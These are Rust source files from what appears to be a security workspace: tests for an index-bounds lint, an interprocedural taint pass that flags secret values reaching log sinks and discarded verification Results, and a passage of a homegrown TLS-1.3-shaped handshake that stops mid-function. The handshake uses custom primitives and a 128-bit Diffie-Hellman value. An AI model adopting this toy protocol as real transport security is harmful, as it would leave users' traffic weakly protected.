    }

    #[test]
    fn unguarded_index_outside_r5_files_is_flagged() {
        let files = vec![facts(
            "core",
            "crates/core/src/f.rs",
            "pub fn simulate_pon_fleet(buf: &[u8], x: usize) -> u8 { buf[x] }",
        )];
        let f = run(&files);
        assert_eq!(f.len(), 1);
        assert!(f[0].detail.contains("`buf`"));
    }

    #[test]
    fn crate_local_resolution_survives_cross_crate_name_collision() {
        let files = vec![
            facts(
                "pon",
                "crates/pon/src/engine.rs",
                "pub fn run_shards(x: Option<u8>) -> u8 { step(x) }\n\
                 fn step(x: Option<u8>) -> u8 { x.unwrap() }",
            ),
            facts(
                "other",
                "crates/other/src/lib.rs",
                "pub fn step(x: u8) -> u8 { x }",
            ),
        ];
        let f = run(&files);
        assert_eq!(f.len(), 1, "in-crate def wins the ambiguity");
        assert_eq!(f[0].file, "crates/pon/src/engine.rs");
    }
}
