//! Interprocedural taint walk over the workspace call graph.
//!
//! Three jobs, all running *after* the per-file rules and the sast
//! bridge:
//!
//! 1. **Discharge R4/R5 findings whose bounds are provable across
//!    function boundaries.** Four discharge arguments, each requiring
//!    facts the per-file pass cannot see:
//!    * *loop bound vs. known length* — `for i in 0..BLOCK_LEN`
//!      indexing a value whose array length (via param type, alias and
//!      constant tables) is ≥ the bound;
//!    * *loop bound vs. allocation size* — the loop's upper-bound text
//!      equals the `vec![x; N]` size text of the indexed local
//!      (`for i in nk..4 * (nr + 1)` over `vec![…; 4 * (nr + 1)]`);
//!    * *mask vs. known length* — an index `& m` masked below the
//!      array length (`sbox()[x & 0xff]` with `-> &'static [u8; 256]`);
//!    * *guards at every call site* — the index is a parameter, the
//!      function resolves uniquely, and **all** recorded callers pass a
//!      bounds-guarded (R5) or literal (R4) argument in that position.
//!
//!    Discharged findings move to [`FlowOutcome::suppressed`] with
//!    `confirmed = Some(false)` — they are *not* baselined.
//!
//! 2. **R8 secret-leak detection.** Sources are values of secret-named
//!    types declared in `crypto`/`netsec` (camel-case segments `Key`,
//!    `Tag`, `Nonce`, … — `Public`-named types excluded) and
//!    secret-named byte-slice parameters inside those crates. Sinks are
//!    format-family macros (bare arguments and `{ident:?}` inline
//!    captures) and telemetry-export calls, collected by
//!    [`crate::summary`]. A per-function *param-leak* bitset is
//!    propagated to a fixpoint over the call graph, so a secret passed
//!    through one (or more) bare-argument hops into a function that
//!    sinks its parameter is still caught at the outermost call.
//!
//! 3. **R9 discarded-`Result` detection.** `let _ = f(…);` and bare
//!    `f(…);` statements whose callee resolves uniquely to a function
//!    in a security-critical crate returning `Result` — a verification
//!    outcome nobody reads.
//!
//! The shape heuristics are documented inline and deliberately
//! conservative: every judgement needs a unique name resolution, and
//! `v - x` loop-index shapes trust the loop's lower bound to prevent
//! wrap-around (true for the `for i in nk.. { w[i - nk] }` pattern this
//! discharges, and called out in DESIGN.md as a residual).

use std::collections::{BTreeMap, BTreeSet};

use crate::callgraph::{CallGraph, FileFacts, FnId};
use crate::rules::{Access, Finding, Rule};
use crate::summary::FnSummary;

/// Result of the interprocedural pass.
#[derive(Debug, Clone, Default)]
pub struct FlowOutcome {
    /// Surviving findings plus the new R8/R9 findings (unsorted).
    pub findings: Vec<Finding>,
    /// R4/R5 findings discharged across function boundaries, stamped
    /// `confirmed = Some(false)`.
    pub suppressed: Vec<Finding>,
}

/// Crates whose declared types can be secret material (R8 sources).
pub(crate) const SECRET_TYPE_CRATES: &[&str] = &["crypto", "netsec"];

/// Camel-case type-name segments that mark secret material.
const SECRET_TYPE_SEGMENTS: &[&str] = &[
    "Key", "Keys", "Tag", "Nonce", "Secret", "Mac", "Icv", "Password", "Token",
];

/// Crates whose `Result`s must not be discarded (R9).
const SEC_RESULT_CRATES: &[&str] = &["crypto", "netsec", "secureboot", "fim"];

/// Method names shared with std collections/io — a bare `x.push(y);`
/// statement must not resolve against a same-named workspace fn.
pub(crate) const STD_METHOD_NAMES: &[&str] = &[
    "push", "pop", "insert", "remove", "clear", "extend", "write", "read",
    "flush", "send", "recv", "next", "get", "set", "take", "join", "len",
    "contains",
];

/// Runs the pass and returns the merged outcome.
pub fn run(files: &[FileFacts]) -> FlowOutcome {
    let graph = CallGraph::build(files);
    let secret_types = secret_type_names(&graph);
    let leaks = param_leak_fixpoint(&graph);

    // Decisions are collected as (file index, finding index) kills plus
    // appended findings, then applied after the graph borrow ends.
    let mut kills: BTreeSet<(usize, usize)> = BTreeSet::new();
    let mut added: Vec<Finding> = Vec::new();

    for (fi, file) in files.iter().enumerate() {
        for (ki, finding) in file.findings.iter().enumerate() {
            if !matches!(finding.rule, Rule::R4NarrowingCast | Rule::R5UnguardedIndex) {
                continue;
            }
            let Some(access) = matching_access(file, finding) else { continue };
            if discharges(&graph, fi, file, finding, access) {
                kills.insert((fi, ki));
            }
        }

        for (ni, f) in file.summary.functions.iter().enumerate() {
            let sources = source_vars(&graph, file, f, &secret_types);
            // R8 direct: a source reaches a sink in this very function.
            for sink in &f.sinks {
                if sources.contains(&sink.var) {
                    added.push(Finding {
                        rule: Rule::R8SecretLeak,
                        file: file.rel_path.clone(),
                        line: sink.line,
                        function: f.name.clone(),
                        detail: format!(
                            "secret `{}` reaches `{}` sink",
                            sink.var, sink.sink
                        ),
                        confirmed: Some(true),
                    });
                }
            }
            // R8 interprocedural: a source passed bare into a call
            // whose parameter is known to leak.
            for call in &f.calls {
                let Some(callee) = graph.resolve_unique(&call.callee) else {
                    continue;
                };
                let Some(leaking) = leaks.get(&callee) else { continue };
                for (pos, arg) in call.args.iter().enumerate() {
                    let Some(ident) = &arg.ident else { continue };
                    if leaking.get(pos).copied().unwrap_or(false)
                        && sources.contains(ident)
                    {
                        added.push(Finding {
                            rule: Rule::R8SecretLeak,
                            file: file.rel_path.clone(),
                            line: call.line,
                            function: f.name.clone(),
                            detail: format!(
                                "secret `{}` passed to `{}` reaches a sink",
                                ident, call.callee
                            ),
                            confirmed: Some(true),
                        });
                    }
                }
            }
            // R9: discarded Results from security-critical crates.
            for discard in &f.discards {
                if STD_METHOD_NAMES.contains(&discard.callee.as_str()) {
                    continue;
                }
                let Some(callee) = graph.resolve_unique(&discard.callee) else {
                    continue;
                };
                let target = graph.function(callee);
                if SEC_RESULT_CRATES.contains(&graph.crate_of(callee))
                    && target.ret.contains("Result")
                {
                    added.push(Finding {
                        rule: Rule::R9DiscardedResult,
                        file: file.rel_path.clone(),
                        line: discard.line,
                        function: f.name.clone(),
                        detail: format!(
                            "Result of `{}` discarded ({})",
                            discard.callee, discard.kind
                        ),
                        confirmed: Some(true),
                    });
                }
            }
            let _ = ni;
        }
    }

    drop(leaks);
    drop(secret_types);
    drop(graph);

    let mut out = FlowOutcome::default();
    for (fi, file) in files.iter().enumerate() {
        for (ki, finding) in file.findings.iter().enumerate() {
            let mut finding = finding.clone();
            if kills.contains(&(fi, ki)) {
                finding.confirmed = Some(false);
                out.suppressed.push(finding);
            } else {
                out.findings.push(finding);
            }
        }
    }
    out.findings.append(&mut added);
    out
}

/// The access record that produced a finding: same function, rule and
/// line, and the finding's detail names the access variable.
fn matching_access<'a>(file: &'a FileFacts, finding: &Finding) -> Option<&'a Access> {
    file.accesses.iter().find(|a| {
        a.rule == finding.rule
            && a.line == finding.line
            && a.function == finding.function
            && finding.detail.contains(&format!("`{}`", a.var))
    })
}

/// Can this R4/R5 finding be discharged with cross-function facts?
/// Also consulted by [`crate::panicfree`], which synthesises an
/// R5-shaped finding/access pair per reachable index site so the R16
/// closure discharges exactly what the flat pass would.
pub(crate) fn discharges(
    graph: &CallGraph<'_>,
    file_idx: usize,
    file: &FileFacts,
    finding: &Finding,
    access: &Access,
) -> bool {
    // The enclosing function's summary — required by every argument
    // below; skip if the name is ambiguous within the file.
    let in_file: Vec<&FnSummary> = file
        .summary
        .functions
        .iter()
        .filter(|f| f.name == access.function)
        .collect();
    let [fun] = in_file.as_slice() else { return false };

    if finding.rule == Rule::R5UnguardedIndex {
        let len = var_len(graph, file_idx, fun, &access.var);

        // Mask vs. known length: `s[x & 0xff]` with `s: [u8; 256]`.
        if let (Some(mask), Some(len)) = (access.masked, len) {
            if mask < len {
                return true;
            }
        }

        if let Some((_, upper)) = &access.loop_bounds {
            // Loop bound vs. known length: `for i in 0..BLOCK_LEN`
            // indexing a `[u8; BLOCK_LEN]`. The recorded shape is `i`
            // or `i - x`, so the bound is an upper bound on the index.
            if let (Some(bound), Some(len)) = (graph.eval_size_at(file_idx, upper), len) {
                if bound <= len {
                    return true;
                }
            }
            // Loop bound vs. allocation size, textually: `for i in
            // nk..4 * (nr + 1)` over `vec![…; 4 * (nr + 1)]` in the
            // same function.
            if fun
                .allocs
                .iter()
                .any(|(v, size)| *v == access.var && size == upper)
            {
                return true;
            }
        }
    }

    // Guards (R5) / literals (R4) at every call site: the index must be
    // a parameter, the function uniquely resolvable (so the recorded
    // callers are ALL the callers), and at least one caller must exist.
    let Some(index) = &access.index_ident else { return false };
    let Some(pos) = fun.params.iter().position(|(name, _)| name == index) else {
        return false;
    };
    match graph.resolve_unique(&access.function) {
        Some(id) if id.0 == file_idx => {}
        _ => return false,
    }
    let callers = graph.callers_of(&access.function);
    !callers.is_empty()
        && callers.iter().all(|&r| {
            let call = graph.call_site(r);
            match call.args.get(pos) {
                Some(arg) if finding.rule == Rule::R4NarrowingCast => arg.literal,
                Some(arg) => arg.guarded,
                None => false,
            }
        })
}

/// Array length of `var` inside `fun` (which lives in file `file_idx`),
/// from its parameter type, local type annotation, local allocation, or
/// the unique callee's return type when bound by `let var = f();`.
pub(crate) fn var_len(
    graph: &CallGraph<'_>,
    file_idx: usize,
    fun: &FnSummary,
    var: &str,
) -> Option<u64> {
    if let Some((_, ty)) = fun.params.iter().find(|(name, _)| name == var) {
        if let Some(len) = graph.type_len_at(file_idx, ty) {
            return Some(len);
        }
    }
    if let Some((_, ty)) = fun.local_types.iter().find(|(name, _)| name == var) {
        if let Some(len) = graph.type_len_at(file_idx, ty) {
            return Some(len);
        }
    }
    if let Some((_, size)) = fun.allocs.iter().find(|(name, _)| name == var) {
        if let Some(len) = graph.eval_size_at(file_idx, size) {
            return Some(len);
        }
    }
    if let Some((_, callee)) = fun.local_calls.iter().find(|(name, _)| name == var) {
        if let Some(id) = graph.resolve_unique(callee) {
            // The callee's return type is written in the callee's file.
            return graph.type_len_at(id.0, &graph.function(id).ret);
        }
    }
    None
}

/// Secret type names: declared in `crypto`/`netsec`, camel-case
/// segments include a secret marker, and no `Public` segment.
pub(crate) fn secret_type_names(graph: &CallGraph<'_>) -> BTreeSet<String> {
    let mut names = BTreeSet::new();
    for file in graph.files() {
        if !SECRET_TYPE_CRATES.contains(&file.crate_name.as_str()) {
            continue;
        }
        let declared = file
            .summary
            .structs
            .iter()
            .chain(file.summary.types.iter().map(|(n, _)| n));
        for name in declared {
            let segs = camel_segments(name);
            let is_public = segs.iter().any(|s| s == "Public" || s == "Pub");
            let is_secret = segs
                .iter()
                .any(|s| SECRET_TYPE_SEGMENTS.contains(&s.as_str()));
            if is_secret && !is_public {
                names.insert(name.clone());
            }
        }
    }
    names
}

/// Splits `LamportKeyPair` into `["Lamport", "Key", "Pair"]`.
pub(crate) fn camel_segments(name: &str) -> Vec<String> {
    let mut segs = Vec::new();
    let mut cur = String::new();
    for c in name.chars() {
        if c.is_ascii_uppercase() && !cur.is_empty() {
            segs.push(std::mem::take(&mut cur));
        }
        cur.push(c);
    }
    if !cur.is_empty() {
        segs.push(cur);
    }
    segs
}

/// Does joined type text name one of the secret types as a whole
/// identifier segment (`&SessionKey`, `Result<Tag,E>`)?
pub(crate) fn type_mentions_secret(ty: &str, secret_types: &BTreeSet<String>) -> bool {
    ty.split(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
        .any(|seg| secret_types.contains(seg))
}

/// Variables holding secret material inside `fun`.
pub(crate) fn source_vars(
    graph: &CallGraph<'_>,
    file: &FileFacts,
    fun: &FnSummary,
    secret_types: &BTreeSet<String>,
) -> BTreeSet<String> {
    let mut sources = BTreeSet::new();
    let in_secret_crate = SECRET_TYPE_CRATES.contains(&file.crate_name.as_str());
    for (name, ty) in &fun.params {
        let typed_secret = type_mentions_secret(ty, secret_types);
        // Inside crypto/netsec a secret-named byte-slice param is a
        // source even without a nominal type (`tag: &[u8]`).
        let named_secret =
            in_secret_crate && ty.contains("u8") && crate::rules::has_secret_segment(name);
        if typed_secret || named_secret {
            sources.insert(name.clone());
        }
    }
    for (name, ty) in &fun.local_types {
        if type_mentions_secret(ty, secret_types) {
            sources.insert(name.clone());
        }
    }
    for (name, callee) in &fun.local_calls {
        if let Some(id) = graph.resolve_unique(callee) {
            if type_mentions_secret(&graph.function(id).ret, secret_types) {
                sources.insert(name.clone());
            }
        }
    }
    sources
}

/// For every function: which parameter positions reach a sink, in the
/// function itself or transitively through bare-argument calls.
fn param_leak_fixpoint(graph: &CallGraph<'_>) -> BTreeMap<FnId, Vec<bool>> {
    let mut leaks: BTreeMap<FnId, Vec<bool>> = BTreeMap::new();
    for (fi, file) in graph.files().iter().enumerate() {
        for (ni, f) in file.summary.functions.iter().enumerate() {
            let direct: Vec<bool> = f
                .params
                .iter()
                .map(|(name, _)| f.sinks.iter().any(|s| &s.var == name))
                .collect();
            leaks.insert((fi, ni), direct);
        }
    }
    // Propagate caller-param → callee-param edges to a fixpoint. Bounded
    // by the total number of (fn, param) bits, so 64 passes is plenty
    // for any realistic workspace depth.
    for _ in 0..64 {
        let mut changed = false;
        for (fi, file) in graph.files().iter().enumerate() {
            for (ni, f) in file.summary.functions.iter().enumerate() {
                for call in &f.calls {
                    let Some(callee) = graph.resolve_unique(&call.callee) else {
                        continue;
                    };
                    if callee == (fi, ni) {
                        continue; // self-recursion adds nothing
                    }
                    let callee_leaks = leaks.get(&callee).cloned().unwrap_or_default();
                    for (pos, arg) in call.args.iter().enumerate() {
                        let Some(ident) = &arg.ident else { continue };
                        if !callee_leaks.get(pos).copied().unwrap_or(false) {
                            continue;
                        }
                        let Some(ppos) =
                            f.params.iter().position(|(name, _)| name == ident)
                        else {
                            continue;
                        };
                        if let Some(own) = leaks.get_mut(&(fi, ni)) {
                            if !own[ppos] {
                                own[ppos] = true;
                                changed = true;
                            }
                        }
                    }
                }
            }
        }
        if !changed {
            break;
        }
    }
    leaks
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::lexer::tokenize;
    use crate::rules::{annotate, scan_tokens, FileContext};
    use crate::summary::summarize;

    fn facts(crate_name: &str, file_name: &str, src: &str) -> FileFacts {
        let ann = annotate(tokenize(src));
        let ctx = FileContext {
            crate_name,
            rel_path: file_name,
            file_name,
        };
        let (findings, accesses) = scan_tokens(&ctx, &ann);
        FileFacts {
            crate_name: crate_name.to_string(),
            rel_path: file_name.to_string(),
            summary: summarize(&ann),
            findings,
            accesses,
        }
    }

    fn rule_count(out: &FlowOutcome, rule: Rule) -> usize {
        out.findings.iter().filter(|f| f.rule == rule).count()
    }

    #[test]
    fn const_bounded_loop_discharges_r5() {
        let out = run(&[facts(
            "crypto",
            "aes.rs",
            "pub const BLOCK_LEN: usize = 16;\npub type Block = [u8; BLOCK_LEN];\n\
             fn xor_block(a: &mut Block, b: &Block) { for i in 0..BLOCK_LEN { a[i] ^= b[i]; } }",
        )]);
        assert_eq!(rule_count(&out, Rule::R5UnguardedIndex), 0);
        assert_eq!(out.suppressed.len(), 2);
        assert!(out.suppressed.iter().all(|f| f.confirmed == Some(false)));
    }

    #[test]
    fn variable_bound_without_proof_stays() {
        let out = run(&[facts(
            "crypto",
            "aes.rs",
            "fn f(w: &mut [u32], nk: usize, m: usize) { for i in nk..m { w[i] = 0; } }",
        )]);
        assert_eq!(rule_count(&out, Rule::R5UnguardedIndex), 1);
        assert!(out.suppressed.is_empty());
    }

    #[test]
    fn alloc_size_text_match_discharges_r5() {
        let out = run(&[facts(
            "crypto",
            "aes.rs",
            "fn expand(nr: usize, nk: usize) { let mut w = vec![[0u8; 4]; 4 * (nr + 1)];\n\
             for i in nk..4 * (nr + 1) { w[i] = w[i - nk]; } }",
        )]);
        assert_eq!(rule_count(&out, Rule::R5UnguardedIndex), 0);
        assert_eq!(out.suppressed.len(), 2);
    }

    #[test]
    fn mask_below_known_length_discharges_r5() {
        let out = run(&[facts(
            "crypto",
            "aes.rs",
            "fn sbox() -> &'static [u8; 256] { &SBOX }\n\
             fn sub(x: u32) -> u8 { let s = sbox(); s[(x & 0xff) as usize] }",
        )]);
        assert_eq!(rule_count(&out, Rule::R5UnguardedIndex), 0);
        assert_eq!(out.suppressed.len(), 1);
    }

    #[test]
    fn mask_wider_than_array_stays() {
        let out = run(&[facts(
            "crypto",
            "aes.rs",
            "fn sbox() -> &'static [u8; 16] { &SBOX }\n\
             fn sub(x: u32) -> u8 { let s = sbox(); s[(x & 0xff) as usize] }",
        )]);
        assert_eq!(rule_count(&out, Rule::R5UnguardedIndex), 1);
    }

    #[test]
    fn guarded_at_every_call_site_discharges_r5() {
        let out = run(&[facts(
            "pon",
            "frame.rs",
            "fn read_unchecked(buf: &[u8], i: usize) -> u8 { buf[i] }\n\
             fn read_guarded(buf: &[u8], i: usize) -> u8 {\n\
                 if i < buf.len() { read_unchecked(buf, i) } else { 0 } }",
        )]);
        assert_eq!(rule_count(&out, Rule::R5UnguardedIndex), 0);
        assert_eq!(out.suppressed.len(), 1);
    }

    #[test]
    fn unguarded_call_site_keeps_r5() {
        let out = run(&[facts(
            "pon",
            "frame.rs",
            "fn read_unchecked(buf: &[u8], i: usize) -> u8 { buf[i] }\n\
             fn read_wild(buf: &[u8], i: usize) -> u8 { read_unchecked(buf, i) }",
        )]);
        assert_eq!(rule_count(&out, Rule::R5UnguardedIndex), 1);
    }

    #[test]
    fn no_call_sites_keeps_r5() {
        let out = run(&[facts(
            "pon",
            "frame.rs",
            "fn read_field(buf: &[u8], i: usize) -> u8 { buf[i] }",
        )]);
        assert_eq!(rule_count(&out, Rule::R5UnguardedIndex), 1);
    }

    #[test]
    fn literal_call_sites_discharge_r4() {
        let out = run(&[facts(
            "pon",
            "lib.rs",
            "fn narrow(sci: u64) -> u32 { sci as u32 }\n\
             fn fixed() -> u32 { narrow(7) }",
        )]);
        assert_eq!(rule_count(&out, Rule::R4NarrowingCast), 0);
        assert_eq!(out.suppressed.len(), 1);
    }

    #[test]
    fn r8_direct_and_hop_leaks() {
        let out = run(&[
            facts("netsec", "handshake.rs",
                "pub struct SessionKey;\n\
                 fn describe(k: &SessionKey) -> String { format!(\"{k:?}\") }\n\
                 fn leak_hop(key: &SessionKey) { let _s = describe(key); }\n\
                 fn safe_len(key: &SessionKey, n: usize) { let _x = n; }"),
        ]);
        let r8: Vec<_> = out
            .findings
            .iter()
            .filter(|f| f.rule == Rule::R8SecretLeak)
            .collect();
        // describe: direct (param typed SessionKey reaches format!).
        // leak_hop: interprocedural (key passed bare into describe).
        assert_eq!(r8.len(), 2);
        assert!(r8.iter().any(|f| f.function == "describe"));
        assert!(r8.iter().any(|f| f.function == "leak_hop"));
    }

    #[test]
    fn r8_projections_and_untyped_args_are_silent() {
        let out = run(&[facts(
            "netsec",
            "handshake.rs",
            "pub struct SessionKey;\n\
             fn log_len(key: &SessionKey) { println!(\"{}\", key.len()); }\n\
             fn log_other(n: usize) { println!(\"{n}\"); }",
        )]);
        assert_eq!(rule_count(&out, Rule::R8SecretLeak), 0);
    }

    #[test]
    fn r9_discarded_security_results() {
        let out = run(&[
            facts("crypto", "gcm.rs",
                "pub fn verify_peer(tag: u8) -> Result<(), u8> { Err(tag) }"),
            facts("demo", "ops.rs",
                "fn f(t: u8) { let _ = verify_peer(t); }\n\
                 fn g(t: u8) { verify_peer(t); }\n\
                 fn h(t: u8) -> Result<(), u8> { verify_peer(t) }"),
        ]);
        let r9: Vec<_> = out
            .findings
            .iter()
            .filter(|f| f.rule == Rule::R9DiscardedResult)
            .collect();
        assert_eq!(r9.len(), 2);
        assert!(r9.iter().any(|f| f.function == "f" && f.detail.contains("let _")));
        assert!(r9.iter().any(|f| f.function == "g" && f.detail.contains("stmt")));
    }

    #[test]
    fn r9_ignores_non_security_crates_and_propagation() {
        let out = run(&[
            facts("demo", "util.rs", "pub fn cleanup(x: u8) -> Result<(), u8> { Err(x) }"),
            facts("demo", "ops.rs",
                "fn f(t: u8) { let _ = cleanup(t); }\n\
                 fn g(t: u8) -> Result<(), u8> { let _ = verify_missing(t)?; Ok(()) }"),
        ]);
        assert_eq!(rule_count(&out, Rule::R9DiscardedResult), 0);
    }
}
