//! A TLS-1.3-shaped authenticated key exchange (mitigation **M4**).
//!
//! The paper mandates "secure key exchange protocols (e.g., TLS 1.3)" for
//! onboarding and registration. This module reproduces the 1-RTT shape of
//! TLS 1.3 over the workspace's own primitives:
//!
//! 1. `ClientHello` — client random + ephemeral DH share.
//! 2. `ServerFlight` — server random + DH share, certificate chain,
//!    `CertificateVerify` (signature over the running transcript hash) and
//!    `Finished` (HMAC under a transcript-bound key).
//! 3. `ClientFlight` — optional client certificate + `CertificateVerify`
//!    (mutual authentication), and the client `Finished`.
//!
//! Keys derive from an HKDF schedule over the DH shared secret and the
//! transcript hash, so a man-in-the-middle who substitutes DH shares cannot
//! produce a valid `CertificateVerify` without the certified private key —
//! exactly the property M4 relies on.

use genio_crypto::dh::KeyPair;
use genio_crypto::drbg::HmacDrbg;
use genio_crypto::gcm::AesGcm;
use genio_crypto::hkdf;
use genio_crypto::hmac::HmacSha256;
use genio_crypto::pki::{validate_chain, Certificate, KeyUsage, RevocationList};
use genio_crypto::sha256::Sha256;
use genio_crypto::sig::{MerklePublicKey, MerkleSignature};

use crate::onboarding::NodeIdentity;
use crate::NetsecError;

/// Handshake parameters.
#[derive(Debug, Clone, Copy)]
pub struct HandshakeConfig {
    /// Require the client to present and prove a certificate (mutual auth).
    pub require_client_auth: bool,
    /// Validation time for certificate windows.
    pub now: u64,
}

/// First flight: client random and ephemeral share.
#[derive(Debug, Clone)]
pub struct ClientHello {
    /// 32-byte client random.
    pub random: [u8; 32],
    /// Ephemeral DH public value.
    pub dh_public: u128,
}

/// Server response flight.
#[derive(Debug, Clone)]
pub struct ServerFlight {
    /// 32-byte server random.
    pub random: [u8; 32],
    /// Ephemeral DH public value.
    pub dh_public: u128,
    /// Server certificate chain, leaf first.
    pub chain: Vec<Certificate>,
    /// Signature over the transcript hash up to (and including) the chain.
    pub certificate_verify: MerkleSignature,
    /// HMAC over the transcript under the server finished key.
    pub finished: [u8; 32],
}

/// Client completion flight.
#[derive(Debug, Clone)]
pub struct ClientFlight {
    /// Client certificate chain (present under mutual auth).
    pub chain: Option<Vec<Certificate>>,
    /// Signature over the transcript (present under mutual auth).
    pub certificate_verify: Option<MerkleSignature>,
    /// HMAC over the transcript under the client finished key.
    pub finished: [u8; 32],
}

/// An AEAD-protected application record.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Record {
    /// Per-direction sequence number (nonce basis).
    pub seq: u64,
    /// Ciphertext plus tag.
    pub body: Vec<u8>,
}

/// Directional record protection derived from a completed handshake.
///
/// Both per-direction AEADs — including their AES key schedules and 64 KiB
/// GHASH multiplication tables — are built once here at session setup and
/// reused for every record; no per-record (or per-batch) key material is
/// ever re-derived. Session setup itself is cheap because `AesGcm::new`
/// constructs the GHASH tables via the shift-based recurrence in
/// `genio_crypto::ghash` instead of 128 bitwise field multiplies.
#[derive(Debug)]
pub struct SessionKeys {
    client_aead: AesGcm,
    server_aead: AesGcm,
    client_seq: u64,
    server_seq: u64,
    /// Hash of the full handshake transcript (channel binding token).
    pub transcript_hash: [u8; 32],
}

impl SessionKeys {
    /// Seals a record in the client→server direction.
    ///
    /// # Errors
    ///
    /// Currently infallible in practice; returns `Err` only on internal
    /// sequence exhaustion.
    pub fn seal_client(&mut self, plaintext: &[u8]) -> crate::Result<Record> {
        let seq = self.client_seq;
        self.client_seq += 1;
        let body = self.client_aead.seal(&nonce_from_seq(seq), plaintext, b"c");
        Ok(Record { seq, body })
    }

    /// Opens a client→server record.
    ///
    /// # Errors
    ///
    /// [`NetsecError::IntegrityFailure`] on tag mismatch.
    pub fn open_client(&mut self, record: &Record) -> crate::Result<Vec<u8>> {
        self.client_aead
            .open(&nonce_from_seq(record.seq), &record.body, b"c")
            .map_err(|_| NetsecError::IntegrityFailure)
    }

    /// Seals a record in the server→client direction.
    ///
    /// # Errors
    ///
    /// See [`SessionKeys::seal_client`].
    pub fn seal_server(&mut self, plaintext: &[u8]) -> crate::Result<Record> {
        let seq = self.server_seq;
        self.server_seq += 1;
        let body = self.server_aead.seal(&nonce_from_seq(seq), plaintext, b"s");
        Ok(Record { seq, body })
    }

    /// Opens a server→client record.
    ///
    /// # Errors
    ///
    /// [`NetsecError::IntegrityFailure`] on tag mismatch.
    pub fn open_server(&mut self, record: &Record) -> crate::Result<Vec<u8>> {
        self.server_aead
            .open(&nonce_from_seq(record.seq), &record.body, b"s")
            .map_err(|_| NetsecError::IntegrityFailure)
    }

    /// Seals a burst of client→server records with one batched AEAD call.
    /// Record `i` carries sequence `client_seq + i` and is byte-identical
    /// to the `i`-th sequential [`SessionKeys::seal_client`].
    ///
    /// # Errors
    ///
    /// See [`SessionKeys::seal_client`]; on error the sequence number does
    /// not advance.
    pub fn seal_client_many(&mut self, plaintexts: &[&[u8]]) -> crate::Result<Vec<Record>> {
        Self::seal_many_with(&self.client_aead, &mut self.client_seq, plaintexts, b"c")
    }

    /// Opens a burst of client→server records, one result per record.
    pub fn open_client_many(&mut self, records: &[Record]) -> Vec<crate::Result<Vec<u8>>> {
        Self::open_many_with(&self.client_aead, records, b"c")
    }

    /// Seals a burst of server→client records with one batched AEAD call.
    ///
    /// # Errors
    ///
    /// See [`SessionKeys::seal_client_many`].
    pub fn seal_server_many(&mut self, plaintexts: &[&[u8]]) -> crate::Result<Vec<Record>> {
        Self::seal_many_with(&self.server_aead, &mut self.server_seq, plaintexts, b"s")
    }

    /// Opens a burst of server→client records, one result per record.
    pub fn open_server_many(&mut self, records: &[Record]) -> Vec<crate::Result<Vec<u8>>> {
        Self::open_many_with(&self.server_aead, records, b"s")
    }

    fn seal_many_with(
        aead: &AesGcm,
        seq: &mut u64,
        plaintexts: &[&[u8]],
        aad: &'static [u8],
    ) -> crate::Result<Vec<Record>> {
        let seq0 = *seq;
        let nonces: Vec<[u8; 12]> = (0..plaintexts.len() as u64)
            .map(|i| nonce_from_seq(seq0 + i))
            .collect();
        let aads: Vec<&[u8]> = plaintexts.iter().map(|_| aad).collect();
        let bodies = aead.seal_many(&nonces, plaintexts, &aads)?;
        *seq += plaintexts.len() as u64;
        Ok(bodies
            .into_iter()
            .enumerate()
            .map(|(i, body)| Record {
                seq: seq0 + i as u64,
                body,
            })
            .collect())
    }

    fn open_many_with(
        aead: &AesGcm,
        records: &[Record],
        aad: &'static [u8],
    ) -> Vec<crate::Result<Vec<u8>>> {
        let nonces: Vec<[u8; 12]> = records.iter().map(|r| nonce_from_seq(r.seq)).collect();
        let bodies: Vec<&[u8]> = records.iter().map(|r| r.body.as_slice()).collect();
        let aads: Vec<&[u8]> = records.iter().map(|_| aad).collect();
        match aead.open_many(&nonces, &bodies, &aads) {
            Ok(results) => results
                .into_iter()
                .map(|r| r.map_err(|_| NetsecError::IntegrityFailure))
                .collect(),
            // Unreachable (equal-length slices by construction); fall back
            // to per-record opens rather than assume.
            Err(_) => records
                .iter()
                .map(|r| {
                    aead.open(&nonce_from_seq(r.seq), &r.body, aad)
                        .map_err(|_| NetsecError::IntegrityFailure)
                })
                .collect(),
        }
    }
}

fn nonce_from_seq(seq: u64) -> [u8; 12] {
    let mut n = [0u8; 12];
    n[4..12].copy_from_slice(&seq.to_be_bytes());
    n
}

fn hash_hello(t: &mut Sha256, random: &[u8; 32], dh_public: u128) {
    t.update(random);
    t.update(&dh_public.to_be_bytes());
}

fn hash_chain(t: &mut Sha256, chain: &[Certificate]) {
    for cert in chain {
        t.update(&cert.tbs.encode());
    }
}

#[derive(Debug, Clone)]
struct KeySchedule {
    master: [u8; 32],
}

impl KeySchedule {
    fn from_shared(shared: &[u8; 16]) -> Self {
        let hs = hkdf::extract(b"genio-tls13", shared);
        KeySchedule {
            master: hkdf::extract(&hs, b"derived"),
        }
    }

    fn finished_key(&self, label: &str) -> [u8; 32] {
        let mut out = [0u8; 32];
        hkdf::expand(&self.master, label.as_bytes(), &mut out);
        out
    }

    fn traffic_key(&self, label: &str, transcript: &[u8; 32]) -> [u8; 16] {
        let mut info = Vec::with_capacity(label.len() + 32);
        info.extend_from_slice(label.as_bytes());
        info.extend_from_slice(transcript);
        let mut out = [0u8; 16];
        hkdf::expand(&self.master, &info, &mut out);
        out
    }

    fn session_keys(&self, transcript: [u8; 32]) -> crate::Result<SessionKeys> {
        let ck = self.traffic_key("c ap traffic", &transcript);
        let sk = self.traffic_key("s ap traffic", &transcript);
        Ok(SessionKeys {
            client_aead: AesGcm::new(&ck)?,
            server_aead: AesGcm::new(&sk)?,
            client_seq: 0,
            server_seq: 0,
            transcript_hash: transcript,
        })
    }
}

/// Client-side handshake state between `start` and `finish`.
#[derive(Debug)]
pub struct ClientSession {
    keypair: KeyPair,
    transcript: Sha256,
}

impl ClientSession {
    /// Generates the client's ephemeral share and opening flight.
    ///
    /// # Errors
    ///
    /// Currently infallible; `Result` reserved for RNG failure modes.
    pub fn start(_config: &HandshakeConfig, seed: &[u8]) -> crate::Result<(ClientHello, Self)> {
        let mut rng = HmacDrbg::new(seed);
        rng.reseed(b"client");
        let keypair = KeyPair::generate(&mut rng);
        let mut random = [0u8; 32];
        rng.fill(&mut random);
        let hello = ClientHello {
            random,
            dh_public: keypair.public(),
        };
        let mut transcript = Sha256::new();
        hash_hello(&mut transcript, &hello.random, hello.dh_public);
        Ok((
            hello,
            ClientSession {
                keypair,
                transcript,
